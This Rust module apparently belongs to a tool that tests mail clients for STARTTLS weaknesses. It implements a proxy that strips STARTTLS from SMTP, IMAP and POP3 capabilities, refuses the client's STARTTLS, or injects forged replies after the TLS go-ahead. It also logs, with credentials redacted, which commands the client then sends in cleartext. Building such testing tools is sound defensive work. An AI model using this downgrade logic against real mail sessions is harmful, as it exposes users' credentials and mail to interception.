//! What each attack does to the cleartext lines that pass the proxy, and which
//! client commands count as exposure. Pure: lines in, lines out.

use crate::client::responder::ClientCommand;
use crate::target::Protocol;
use std::str::FromStr;

/// The attack the proxy applies.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Attack {
    /// Remove STARTTLS/STLS (and LOGINDISABLED) from the capabilities and refuse
    /// STARTTLS when the client asks anyway.
    Strip,
    /// Let STARTTLS through, but append a forged reply to the server's go-ahead,
    /// in the same segment, before the TLS handshake.
    Inject,
}

impl FromStr for Attack {
    type Err = String;
    fn from_str(s: &str) -> Result<Self, String> {
        match s {
            "strip" => Ok(Attack::Strip),
            "inject" => Ok(Attack::Inject),
            other => Err(format!(
                "unknown attack `{other}` (expected strip or inject)"
            )),
        }
    }
}

/// Commands that expose credentials, a mailbox or mail when sent in cleartext.
fn exposes(protocol: Protocol, verb: &str) -> bool {
    let list: &[&str] = match protocol {
        Protocol::Smtp => &["AUTH", "MAIL", "RCPT", "DATA", "BDAT"],
        Protocol::Imap => &[
            "LOGIN",
            "AUTHENTICATE",
            "SELECT",
            "EXAMINE",
            "LIST",
            "LSUB",
            "STATUS",
            "APPEND",
            "FETCH",
            "UID",
            "CREATE",
            "DELETE",
        ],
        Protocol::Pop3 => &[
            "USER", "PASS", "APOP", "AUTH", "STAT", "LIST", "RETR", "UIDL", "TOP",
        ],
    };
    list.contains(&verb)
}

/// Commands whose arguments (and following lines) are secrets.
fn carries_secrets(verb: &str) -> bool {
    matches!(
        verb,
        "AUTH" | "AUTHENTICATE" | "LOGIN" | "PASS" | "APOP" | "USER"
    )
}

/// Whether an IMAP line ends with a literal's `{n}` or `{n+}`: its next bytes
/// are the literal.
fn ends_with_literal(line: &[u8]) -> bool {
    let line = line
        .strip_suffix(b"\r\n")
        .or(line.strip_suffix(b"\n"))
        .unwrap_or(line);
    let Some(inner) = line.strip_suffix(b"}") else {
        return false;
    };
    let Some(open) = inner.iter().rposition(|&b| b == b'{') else {
        return false;
    };
    let digits = &inner[open + 1..];
    let digits = digits.strip_suffix(b"+").unwrap_or(digits);
    !digits.is_empty() && digits.iter().all(u8::is_ascii_digit)
}

/// What the proxy does with one client line.
#[derive(Debug, Default, PartialEq, Eq)]
pub(crate) struct FromClient {
    /// Bytes for the server.
    pub to_server: Option<Vec<u8>>,
    /// Bytes for the client (the proxy answering itself).
    pub to_client: Option<Vec<u8>>,
    /// The line as the transcript shows it (secrets redacted).
    pub shown: Vec<u8>,
}

/// The state of one attacked session.
pub(crate) struct Tamper {
    protocol: Protocol,
    attack: Attack,
    /// SMTP: continuation lines of the reply being stripped.
    pending: Vec<Vec<u8>>,
    /// An AUTH exchange or a LOGIN with literals is running: client lines are secrets.
    secret_lines: bool,
    /// The secret lines are a SASL exchange (they end with the server's answer,
    /// not with the client's line).
    in_sasl: bool,
    /// Inject: the client asked for STARTTLS; the server's next line is the go-ahead.
    awaiting_go_ahead: bool,
    /// Exposing commands seen, redacted.
    pub exposed: Vec<String>,
    /// What the attack did.
    pub actions: Vec<String>,
}

impl Tamper {
    /// A fresh session under `attack`.
    pub(crate) fn new(protocol: Protocol, attack: Attack) -> Self {
        Tamper {
            protocol,
            attack,
            pending: Vec::new(),
            secret_lines: false,
            in_sasl: false,
            awaiting_go_ahead: false,
            exposed: Vec::new(),
            actions: Vec::new(),
        }
    }

    /// A line from the client (CRLF included).
    pub(crate) fn client_line(&mut self, line: &[u8]) -> FromClient {
        let text = String::from_utf8_lossy(line);
        if self.secret_lines {
            // A LOGIN's literal bytes (and, in the same line, the `{n}` of the
            // next argument): still secret until the command ends.
            self.secret_lines =
                self.protocol == Protocol::Imap && ends_with_literal(line) || self.in_sasl;
            return FromClient {
                to_server: Some(line.to_vec()),
                to_client: None,
                shown: b"<redacted>\r\n".to_vec(),
            };
        }
        let command = ClientCommand::parse(self.protocol, &text);
        let shown = if carries_secrets(&command.verb) {
            let keep = if command.tag.is_empty() { 1 } else { 2 };
            let mut words: Vec<&str> = text.split_ascii_whitespace().take(keep).collect();
            if command.verb == "AUTH" || command.verb == "AUTHENTICATE" {
                words.extend(text.split_ascii_whitespace().nth(keep));
                self.secret_lines = true;
                self.in_sasl = true;
            } else if self.protocol == Protocol::Imap && ends_with_literal(line) {
                // `LOGIN {n}`: the user name or password follows as a literal.
                self.secret_lines = true;
            }
            format!("{} <redacted>\r\n", words.join(" ")).into_bytes()
        } else {
            line.to_vec()
        };
        if exposes(self.protocol, &command.verb) {
            self.exposed
                .push(String::from_utf8_lossy(&shown).trim_end().to_string());
        }
        let starttls = matches!(command.verb.as_str(), "STARTTLS" | "STLS");
        if starttls && self.attack == Attack::Strip {
            self.actions
                .push(format!("{} refused by the proxy", command.verb));
            let refusal = match self.protocol {
                Protocol::Smtp => "454 4.7.0 TLS not available\r\n".to_string(),
                Protocol::Imap => format!("{} NO TLS not available\r\n", command.tag),
                Protocol::Pop3 => "-ERR TLS not available\r\n".to_string(),
            };
            return FromClient {
                to_server: None,
                to_client: Some(refusal.into_bytes()),
                shown,
            };
        }
        self.awaiting_go_ahead |= starttls;
        FromClient {
            to_server: Some(line.to_vec()),
            to_client: None,
            shown,
        }
    }

    /// A line from the server (CRLF included): what to pass on, and whether the
    /// session now turns into a TLS handshake to relay byte for byte.
    pub(crate) fn server_line(&mut self, line: &[u8]) -> (Vec<u8>, bool) {
        let text = String::from_utf8_lossy(line);
        let trimmed = text.trim_end();
        if self.secret_lines && !(trimmed.starts_with("334") || trimmed.starts_with('+')) {
            self.secret_lines = false;
            self.in_sasl = false;
        }
        if self.awaiting_go_ahead {
            self.awaiting_go_ahead = false;
            let positive = match self.protocol {
                Protocol::Smtp => trimmed.starts_with("220"),
                Protocol::Imap => trimmed.split_ascii_whitespace().nth(1) == Some("OK"),
                Protocol::Pop3 => trimmed.starts_with("+OK"),
            };
            if positive {
                let forged = match self.protocol {
                    Protocol::Smtp => "250-mailtls.invalid\r\n250 AUTH PLAIN LOGIN\r\n",
                    Protocol::Imap => "* CAPABILITY IMAP4rev1 AUTH=PLAIN\r\n",
                    Protocol::Pop3 => "+OK injected\r\n.\r\n",
                };
                self.actions
                    .push("a forged reply appended to the STARTTLS go-ahead".into());
                let mut out = line.to_vec();
                out.extend_from_slice(forged.as_bytes());
                return (out, true);
            }
        }
        if self.attack != Attack::Strip {
            return (line.to_vec(), false);
        }
        match self.protocol {
            Protocol::Smtp => self.strip_smtp(line, trimmed),
            Protocol::Imap => {
                if !trimmed.to_ascii_uppercase().contains("CAPABILITY") {
                    return (line.to_vec(), false);
                }
                let mut kept: Vec<String> = Vec::new();
                for word in trimmed.split(' ') {
                    let bare = word.trim_end_matches(']').to_ascii_uppercase();
                    if bare == "STARTTLS" || bare == "LOGINDISABLED" {
                        // Keep the response code closed: `STARTTLS]` gives its `]` away.
                        if word.ends_with(']') {
                            if let Some(previous) = kept.last_mut() {
                                previous.push(']');
                            }
                        }
                    } else {
                        kept.push(word.to_string());
                    }
                }
                let out = kept.join(" ");
                if out.len() != trimmed.len() {
                    self.note_stripped();
                }
                (format!("{out}\r\n").into_bytes(), false)
            }
            Protocol::Pop3 => {
                if trimmed.eq_ignore_ascii_case("STLS") {
                    self.note_stripped();
                    (Vec::new(), false)
                } else {
                    (line.to_vec(), false)
                }
            }
        }
    }

    fn note_stripped(&mut self) {
        let what = "STARTTLS removed from the capabilities".to_string();
        if !self.actions.contains(&what) {
            self.actions.push(what);
        }
    }

    /// SMTP replies are held until their last line so that a final
    /// `250 STARTTLS` can be dropped and the line before it made final.
    fn strip_smtp(&mut self, line: &[u8], trimmed: &str) -> (Vec<u8>, bool) {
        let continued = trimmed.as_bytes().get(3) == Some(&b'-');
        self.pending.push(line.to_vec());
        if continued && self.pending.len() < 256 {
            return (Vec::new(), false);
        }
        let lines = std::mem::take(&mut self.pending);
        let before = lines.len();
        let mut kept: Vec<Vec<u8>> = lines
            .into_iter()
            .filter(|l| {
                let t = String::from_utf8_lossy(l);
                !t.get(4..)
                    .unwrap_or("")
                    .trim()
                    .eq_ignore_ascii_case("STARTTLS")
            })
            .collect();
        if kept.len() != before {
            self.note_stripped();
            if let Some(last) = kept.last_mut() {
                if last.get(3) == Some(&b'-') {
                    last[3] = b' ';
                }
            }
        }
        (kept.concat(), false)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn strips_a_final_smtp_starttls_line() {
        let mut t = Tamper::new(Protocol::Smtp, Attack::Strip);
        assert_eq!(t.server_line(b"250-mx\r\n").0, b"");
        assert_eq!(t.server_line(b"250-AUTH PLAIN\r\n").0, b"");
        assert_eq!(
            t.server_line(b"250 STARTTLS\r\n").0,
            b"250-mx\r\n250 AUTH PLAIN\r\n"
        );
    }

    #[test]
    fn strips_imap_and_pop3_capabilities() {
        let mut t = Tamper::new(Protocol::Imap, Attack::Strip);
        let out = t
            .server_line(b"* CAPABILITY IMAP4rev1 STARTTLS LOGINDISABLED\r\n")
            .0;
        assert_eq!(out, b"* CAPABILITY IMAP4rev1\r\n");
        let code = t
            .server_line(b"* OK [CAPABILITY IMAP4rev1 STARTTLS] hi\r\n")
            .0;
        assert_eq!(code, b"* OK [CAPABILITY IMAP4rev1] hi\r\n");
        let mut p = Tamper::new(Protocol::Pop3, Attack::Strip);
        assert_eq!(p.server_line(b"STLS\r\n").0, b"");
    }

    #[test]
    fn refuses_starttls_and_redacts_credentials() {
        let mut t = Tamper::new(Protocol::Smtp, Attack::Strip);
        let refused = t.client_line(b"STARTTLS\r\n");
        assert_eq!(refused.to_server, None);
        let auth = t.client_line(b"AUTH PLAIN AGFsaWNlAHNlY3JldA==\r\n");
        assert_eq!(auth.shown, b"AUTH PLAIN <redacted>\r\n");
        assert_eq!(t.exposed, ["AUTH PLAIN <redacted>"]);
        let mut i = Tamper::new(Protocol::Imap, Attack::Strip);
        assert_eq!(
            i.client_line(b"a1 LOGIN bob hunter2\r\n").shown,
            b"a1 LOGIN <redacted>\r\n"
        );
    }

    #[test]
    fn redacts_imap_literals_of_a_login() {
        let mut i = Tamper::new(Protocol::Imap, Attack::Strip);
        assert_eq!(
            i.client_line(b"a1 LOGIN {3}\r\n").shown,
            b"a1 LOGIN <redacted>\r\n"
        );
        i.server_line(b"+ go\r\n");
        assert_eq!(i.client_line(b"bob {8}\r\n").shown, b"<redacted>\r\n");
        i.server_line(b"+ go\r\n");
        assert_eq!(
            i.client_line(b"p\xc3\xa4sswrd\r\n").shown,
            b"<redacted>\r\n"
        );
        i.server_line(b"a1 OK\r\n");
        assert_eq!(i.client_line(b"a2 NOOP\r\n").shown, b"a2 NOOP\r\n");
        let mut nonsync = Tamper::new(Protocol::Imap, Attack::Strip);
        nonsync.client_line(b"a1 LOGIN {3+}\r\n");
        assert_eq!(
            nonsync.client_line(b"bob {2+}\r\n").shown,
            b"<redacted>\r\n"
        );
        assert_eq!(nonsync.client_line(b"pw\r\n").shown, b"<redacted>\r\n");
        assert_eq!(nonsync.client_line(b"a2 NOOP\r\n").shown, b"a2 NOOP\r\n");
    }

    #[test]
    fn injects_after_the_go_ahead() {
        let mut t = Tamper::new(Protocol::Pop3, Attack::Inject);
        assert!(t.client_line(b"STLS\r\n").to_server.is_some());
        let (out, raw) = t.server_line(b"+OK go\r\n");
        assert!(raw);
        assert_eq!(out, b"+OK go\r\n+OK injected\r\n.\r\n");
    }
}
